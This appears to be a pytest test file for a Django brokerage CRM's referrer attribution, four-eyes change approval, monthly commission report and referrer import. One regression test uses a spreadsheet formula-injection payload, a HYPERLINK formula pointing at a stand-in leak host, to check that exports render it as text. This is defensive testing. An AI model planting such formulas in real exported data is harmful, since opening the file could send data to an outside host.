"""S32 referrers and the attribution of new accounts, S33 changes approved by a second person, S34 the monthly
report (业绩归属) and the referrer list's import (docs/rules-added.md)."""

import datetime
import io
from decimal import Decimal

import pytest
from django.core.exceptions import PermissionDenied
from django.db import connection
from django.urls import reverse
from openpyxl import load_workbook

from acquisition.models import Attribution, AttributionChange, Referrer
from acquisition.referrers import (
    attribution_change_decide,
    attribution_change_request,
    attributions_open,
    referrer_create,
    referrer_months_compute,
    referrer_report,
    referrers_import,
)
from acquisition.services import prospect_create, prospects_convert
from clients.models import Client
from clients.roles import Role
from core.errors import DomainError
from settlement.models import DailyStatement, SettlementDay
from tests.factories import ClientFactory, make_staff, valid_id_card

TODAY = datetime.date(2026, 12, 15)
ID_NUMBER = valid_id_card("44030119880512123")


def a_referrer(world, code="JJ001", role=Role.BRANCH_MANAGER, **overrides) -> Referrer:
    values = {"code": code, "name": "钱居间", "kind": "intermediary", "branch_id": world["branches"][0].pk,
              "agreement_no": "JJXY-2026-01", **overrides}
    return referrer_create(user=world["staff"][role].user, **values)


def converted(world, referrer, account="7401", opened_on=datetime.date(2026, 11, 2)) -> Client:
    """A prospect brought by `referrer` and owned by the first advisor who opens account `account`."""
    prospect_create(user=world["staff"][Role.BRANCH_MANAGER].user, name="李潜客", source="introducing_broker",
                    branch_id=world["branches"][0].pk, id_number=ID_NUMBER, owner_id=world["advisors"][0].pk,
                    referrer_id=referrer.pk)
    client = ClientFactory(account_no=account, branch=world["branches"][0], advisor=world["advisors"][1],
                           opened_on=opened_on, personal_data__id_number=ID_NUMBER)
    prospects_convert([client.pk])
    attributions_open([client.pk])
    client.refresh_from_db()
    return client


def test_a_referrer_has_a_code_of_its_own_and_names_its_person(world):
    referrer = a_referrer(world)
    assert (referrer.kind, referrer.branch) == ("intermediary", world["branches"][0])
    with pytest.raises(DomainError) as twice:
        a_referrer(world, name="另一个")
    assert (twice.value.code, twice.value.field) == ("duplicate", "code")
    with pytest.raises(DomainError) as staff_missing:
        a_referrer(world, code="YG001", kind="staff")
    assert staff_missing.value.field == "staff"
    with pytest.raises(DomainError) as foreign_client:  # the other branch's client is not the manager's
        a_referrer(world, code="KH001", kind="client", client_id=world["clients"]["other_branch"].pk)
    assert foreign_client.value.field == "client"
    assert a_referrer(world, code="KH002", kind="client", client_id=world["clients"]["own"].pk).client_id
    with pytest.raises(DomainError) as other_branch:
        a_referrer(world, code="JJ002", branch_id=world["branches"][1].pk)
    assert other_branch.value.field == "branch"
    with pytest.raises(PermissionDenied):
        a_referrer(world, code="JJ003", role=Role.ADVISOR)


def test_a_new_account_is_credited_to_its_prospects_referrer_and_owner_once(world):
    referrer = a_referrer(world)
    client = converted(world, referrer)
    attribution = Attribution.objects.get(client=client)
    # the client came with an advisor but no marketer: the prospect's owner is the marketer (S25)
    assert (attribution.referrer, attribution.marketer, attribution.valid_from) == (
        referrer, world["advisors"][0], datetime.date(2026, 11, 2))
    assert client.marketer == world["advisors"][0]
    assert attributions_open([client.pk]) == 0  # once
    plain = ClientFactory(account_no="7402", branch=world["branches"][0], opened_on=datetime.date(2026, 11, 3))
    assert attributions_open([plain.pk]) == 1
    assert Attribution.objects.get(client=plain).referrer is None  # credited to nobody but still recorded


def _ask(world, client, role=Role.SERVICE_STAFF, **overrides):
    values = {"client_id": client.pk, "referrer_id": overrides.pop("referrer_id", None),
              "marketer_id": world["advisors"][0].pk, "effective_on": TODAY, "reason": "客户要求更换居间人",
              "today": TODAY, **overrides}
    return attribution_change_request(user=world["staff"][role].user, **values)


def test_a_change_takes_effect_this_month_up_to_today_and_after_the_current_credit(world):
    old, new = a_referrer(world), a_referrer(world, code="JJ002", name="孙居间")
    client = converted(world, old)
    for refused_day in (datetime.date(2026, 11, 30), TODAY + datetime.timedelta(days=1)):
        with pytest.raises(DomainError) as refused:
            _ask(world, client, referrer_id=new.pk, effective_on=refused_day)
        assert refused.value.field == "effective_on"
    with pytest.raises(DomainError) as same:
        _ask(world, client, referrer_id=old.pk)
    assert same.value.field == "referrer"
    first = _ask(world, client, referrer_id=new.pk, effective_on=datetime.date(2026, 12, 1))  # the 1st: in
    assert first.state == "pending"
    with pytest.raises(DomainError) as pending:
        _ask(world, client, referrer_id=new.pk)
    assert pending.value.code == "pending"
    with pytest.raises(PermissionDenied):  # the other branch's advisor does not see the client
        attribution_change_request(user=world["advisors"][2].user, client_id=client.pk, referrer_id=new.pk,
                                   marketer_id=None, effective_on=TODAY, reason="x", today=TODAY)


def test_a_second_person_approves_and_the_history_is_kept(world):
    old, new = a_referrer(world), a_referrer(world, code="JJ002", name="孙居间")
    client = converted(world, old)
    change = _ask(world, client, role=Role.BRANCH_MANAGER, referrer_id=new.pk, marketer_id=world["advisors"][1].pk)
    with pytest.raises(DomainError) as own:
        attribution_change_decide(user=world["staff"][Role.BRANCH_MANAGER].user, change_id=change.pk, approve=True)
    assert own.value.code == "four_eyes"
    with pytest.raises(PermissionDenied):  # an advisor asks but does not approve
        attribution_change_decide(user=world["staff"][Role.ADVISOR].user, change_id=change.pk, approve=True)
    attribution_change_decide(user=world["staff"][Role.HEAD_OFFICE].user, change_id=change.pk, approve=True)
    history = list(Attribution.objects.filter(client=client).order_by("valid_from").values_list(
        "referrer__code", "valid_from", "valid_until"))
    assert history == [("JJ001", datetime.date(2026, 11, 2), TODAY), ("JJ002", TODAY, None)]
    client.refresh_from_db()
    assert client.marketer == world["advisors"][1]
    with pytest.raises(DomainError):  # decided once
        attribution_change_decide(user=world["staff"][Role.HEAD_OFFICE].user, change_id=change.pk, approve=False,
                                  note="x")


def test_a_rejection_says_why_and_changes_nothing(world):
    old, new = a_referrer(world), a_referrer(world, code="JJ002")
    client = converted(world, old)
    change = _ask(world, client, referrer_id=new.pk)
    with pytest.raises(DomainError) as silent:
        attribution_change_decide(user=world["staff"][Role.BRANCH_MANAGER].user, change_id=change.pk, approve=False)
    assert silent.value.field == "decision_note"
    attribution_change_decide(user=world["staff"][Role.BRANCH_MANAGER].user, change_id=change.pk, approve=False,
                              note="未提供居间协议")
    assert AttributionChange.objects.get(pk=change.pk).state == "rejected"
    assert list(Attribution.objects.filter(client=client).values_list("referrer__code", flat=True)) == ["JJ001"]


def _statements(client, days_and_commission, balance="100000.00"):
    with connection.cursor() as cursor:
        for first in {day.replace(day=1) for day, _c in days_and_commission}:
            cursor.execute("SELECT futcrm_ensure_statement_partition(%s)", [first])
    DailyStatement.objects.bulk_create([DailyStatement(
        trade_date=day, client=client, pre_balance=Decimal(balance) + Decimal(commission), deposit=0, withdrawal=0,
        close_profit=0, position_profit=0, commission=Decimal(commission), other_adjustments=0,
        balance=Decimal(balance), margin=0, available=Decimal(balance), trade_volume=1, position_volume=0)
        for day, commission in days_and_commission])
    for day, _commission in days_and_commission:
        SettlementDay.objects.update_or_create(trade_date=day, defaults={"status": "closed"})


def test_the_monthly_report_splits_commission_at_the_change_and_counts_equity_at_the_last_settled_day(world):
    old, new = a_referrer(world), a_referrer(world, code="JJ002", name="孙居间")
    client = converted(world, old, opened_on=datetime.date(2026, 12, 1))
    _statements(client, [(datetime.date(2026, 12, 1), "10.00"), (datetime.date(2026, 12, 2), "20.01"),
                         (datetime.date(2026, 12, 3), "30.00")], balance="250000.50")
    change = _ask(world, client, referrer_id=new.pk, effective_on=datetime.date(2026, 12, 3))
    attribution_change_decide(user=world["staff"][Role.BRANCH_MANAGER].user, change_id=change.pk, approve=True)
    report = referrer_report(world["staff"][Role.BRANCH_MANAGER].user, datetime.date(2026, 12, 1))
    rows = {row["referrer"].code: row for row in report["rows"]}
    assert report["last_day"] == datetime.date(2026, 12, 3)
    assert (rows["JJ001"]["opened"], rows["JJ001"]["accounts"], rows["JJ001"]["commission"]) == (
        1, 0, Decimal("30.01"))  # opened with the first; the 1st and 2nd were theirs
    assert (rows["JJ002"]["opened"], rows["JJ002"]["accounts"], rows["JJ002"]["equity"],
            rows["JJ002"]["commission"]) == (0, 1, Decimal("250000.50"), Decimal("30.00"))
    assert report["totals"]["commission"] == Decimal("60.01")
    _statements(client, [(datetime.date(2026, 12, 4), "5.00")], balance="250000.50")
    stored = referrer_report(world["staff"][Role.BRANCH_MANAGER].user, datetime.date(2026, 12, 1))
    assert stored["totals"]["commission"] == Decimal("60.01")  # the stored figures, until the night's run
    assert referrer_months_compute(datetime.date(2026, 12, 1)) == 2
    again = referrer_report(world["staff"][Role.BRANCH_MANAGER].user, datetime.date(2026, 12, 1))
    assert again["totals"]["commission"] == Decimal("65.01") and again["last_day"] == datetime.date(2026, 12, 4)
    november = referrer_report(world["staff"][Role.BRANCH_MANAGER].user, datetime.date(2026, 11, 1))
    assert all(row["commission"] == 0 and row["accounts"] == 0 for row in november["rows"])


@pytest.mark.parametrize("role", [Role.ADVISOR, Role.BRANCH_MANAGER, Role.HEAD_OFFICE, Role.RISK_OFFICER])
def test_the_report_page_and_its_export_are_scoped(world, login, role):
    a_referrer(world)
    referrer_create(user=world["staff"][Role.HEAD_OFFICE].user, code="IB900", name="乙地介绍机构",
                    kind="introducing_broker", branch_id=world["branches"][1].pk)
    browser = login(world["staff"][role])
    page = browser.get(reverse("referrer-report") + "?month=2026-12")
    if role == Role.RISK_OFFICER:
        assert page.status_code == 403
        return
    text = page.content.decode()
    if role == Role.HEAD_OFFICE:  # the branches' totals first, then one branch's referrers
        assert 'id="referrer-branches"' in text and "乙营业部" in text and "JJ001" not in text
        text = browser.get(reverse("referrer-report") + f"?month=2026-12&branch={world['branches'][0].pk}")
        text = text.content.decode()
    assert "JJ001" in text and "IB900" not in text
    exported = browser.get(reverse("referrer-report") + "?month=2026-12&format=xlsx")
    sheet = load_workbook(io.BytesIO(exported.content)).active
    codes = {row[0] for row in sheet.iter_rows(values_only=True)}
    assert "JJ001" in codes and ("IB900" in codes) == (role == Role.HEAD_OFFICE)
    assert browser.get(reverse("referrer-report") + "?month=2026-13").status_code == 400


def test_the_referrer_list_is_imported_all_or_nothing_with_each_rows_problems(world):
    make_staff(Role.ADVISOR, world["branches"][0], "A-ADV9")
    bad = ("居间人编号,姓名,类型,营业部代码,员工工号,资金账号,协议编号\n"
           "JJ101,周居间,居间人,A01,,,XY-1\n"
           "YG101,吴员工,员工,A01,A-ADV9,,\n"
           "JJ101,重复,居间人,A01,,,\n"
           "KH101,客户介绍,客户,B01,,2001,\n"
           "XX101,某人,朋友,A01,,,\n").encode()
    manager = world["staff"][Role.BRANCH_MANAGER].user
    rows = referrers_import(user=manager, data=bad, filename="referrers.csv", commit=True)
    problems = {row["row"]: row["problems"] for row in rows}
    assert problems[2] == [] and problems[3] == []
    assert any("JJ101" in problem for problem in problems[4])  # the file's own repeat
    assert len(problems[5]) == 2  # neither the branch nor the client is the manager's
    assert any("朋友" in problem for problem in problems[6])
    assert not Referrer.objects.exists()  # one bad row: nothing written
    good = "\n".join(bad.decode().splitlines()[:3]).encode()
    rows = referrers_import(user=manager, data=good, filename="referrers.csv", commit=True)
    assert not any(row["problems"] for row in rows)
    assert set(Referrer.objects.values_list("code", "kind")) == {("JJ101", "intermediary"), ("YG101", "staff")}


@pytest.mark.parametrize("role", [Role.ADVISOR, Role.SERVICE_STAFF, Role.BRANCH_MANAGER, Role.HEAD_OFFICE])
def test_the_referrer_and_attribution_pages_are_scoped(world, login, role):
    mine = a_referrer(world)
    theirs = referrer_create(user=world["staff"][Role.HEAD_OFFICE].user, code="IB900", name="乙地介绍机构",
                             kind="introducing_broker", branch_id=world["branches"][1].pk)
    client = converted(world, mine)
    browser = login(world["staff"][role])
    for referrer, seen in ((mine, True), (theirs, role == Role.HEAD_OFFICE)):
        page = browser.get(reverse("admin:acquisition_referrer_change", args=[referrer.pk]))
        assert (page.status_code == 200) == seen, (role, referrer.code)
    listing = browser.get(reverse("admin:acquisition_attribution_changelist")).content.decode()
    visible = Client.objects.visible_to(world["staff"][role].user).filter(pk=client.pk).exists()
    assert (client.account_no in listing) == visible
    ask = browser.get(reverse("admin:acquisition_attributionchange_add"))
    assert ask.status_code == 200


def test_a_formula_named_referrer_is_exported_as_text(world, login):
    """Issue 35 finding 1 (STYLE.md 20): a name the spreadsheet would run comes back as text, in the workbook and in
    the CSV; before the fix openpyxl wrote it as a live formula."""
    name = '=HYPERLINK("http://x.example/?leak","y")'
    a_referrer(world, name=name)
    browser = login(world["staff"][Role.HEAD_OFFICE])
    query = f"?month=2026-12&branch={world['branches'][0].pk}"
    exported = browser.get(reverse("referrer-report") + query + "&format=xlsx")
    assert exported["Cache-Control"] == "no-store"
    cells = [cell for sheet in load_workbook(io.BytesIO(exported.content)) for row in sheet.iter_rows()
             for cell in row if cell.value is not None]
    assert name in {cell.value for cell in cells}
    assert {cell.data_type for cell in cells} <= {"s", "n"}  # text or a number, never "f"
    text = browser.get(reverse("referrer-report") + query + "&format=csv").content.decode("utf-8-sig")
    assert "'" + name.replace('"', '""') in text and "\n" + name not in text and "," + name not in text


def test_a_referrer_added_in_the_admin_is_saved_once_and_said_so(world, login):
    """Issue 35 finding 8: the add page answered "具有 居间人编号 的 介绍人 已存在" after the service had saved the row
    (the ModelForm validated the instance again); now the service's write is the form's, and the page goes back."""
    browser = login(world["staff"][Role.BRANCH_MANAGER])
    added = browser.post(reverse("admin:acquisition_referrer_add"), {
        "code": "JJ777", "name": "孙居间", "kind": "intermediary", "branch": world["branches"][0].pk,
        "agreement_no": "XY-777"})
    assert added.status_code == 302 and "已存在" not in added.content.decode()
    assert Referrer.objects.filter(code="JJ777").count() == 1
    again = browser.post(reverse("admin:acquisition_referrer_add"), {
        "code": "JJ777", "name": "另一人", "kind": "intermediary", "branch": world["branches"][0].pk})
    assert again.status_code == 200 and Referrer.objects.filter(code="JJ777").count() == 1  # refused on its field


def test_a_referrer_added_after_the_months_first_read_is_in_the_report_at_once(world):
    """Issue 35 finding 10: the month's figures are stored at its first read; a referrer added afterwards was missing
    until the nightly run. Now the report computes the month again when a referrer of it has no figures."""
    manager = world["staff"][Role.BRANCH_MANAGER].user
    a_referrer(world)
    first = referrer_report(manager, datetime.date(2026, 12, 1), branch_id=world["branches"][0].pk)
    assert [row["referrer"].code for row in first["rows"]] == ["JJ001"]
    a_referrer(world, code="JJ002", name="新居间")
    later = referrer_report(manager, datetime.date(2026, 12, 1), branch_id=world["branches"][0].pk)
    assert [row["referrer"].code for row in later["rows"]] == ["JJ001", "JJ002"]
